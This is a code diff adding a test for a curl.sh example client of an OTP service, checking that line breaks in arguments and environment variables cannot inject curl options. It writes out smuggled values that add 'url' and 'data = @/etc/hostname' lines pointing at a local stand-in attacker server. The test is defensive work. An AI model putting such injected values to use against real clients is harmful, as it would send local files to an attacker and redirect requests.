@@ -169,3 +169,32 @@ test(`nobody answers: ${all}`, { timeout: 60_000 }, async () => {
     }),
   );
 });
+
+const id = `otp_${"0".repeat(32)}`;
+
+test.skipIf(!here.some(({ name }) => name === "curl.sh"))("curl.sh takes no line break for an option", async () => {
+  let reached = 0;
+  const attacker = await listen({
+    host: "127.0.0.1",
+    port: 0,
+    fetch: () => ((reached += 1), new Response("valid=true")),
+  });
+  const line = `1"\nurl = ${attacker.url}/x\ndata = @/etc/hostname #`;
+  const sh = ["sh", `${examples}curl.sh`];
+  const key = { GERBANG_KEY: `gbk_wrong\nurl = ${attacker.url}/x` };
+  const runs = await Promise.all([
+    run([...sh, "verify", id, line]),
+    run([...sh, "verify", line, "123456"]),
+    run([...sh, "issue", phone(), line]),
+    run([...sh, "issue", phone(), "budi\r"]),
+    run([...sh, "verify", id, "123456"], key),
+    run([...sh, "verify", id, "123456"], { GERBANG_URL: `${server.url}\nurl = ${attacker.url}` }),
+  ]);
+  expect(runs.map(({ exit, out }) => [exit, out])).toEqual(runs.map(() => [64, ""]));
+  // What an option looks like without a line break is a word like any other.
+  const quoted = await run([...sh, "issue", phone(), 'a" url = "b\\n']);
+  expect(quoted.exit, quoted.error).toBe(0);
+  expect((await gateway.request(`/v1/otp/${quoted.out.trim().slice("id=".length)}`)).json.user).toBe('a" url = "b\\n');
+  expect(reached).toBe(0);
+  await attacker.close(100);
+});
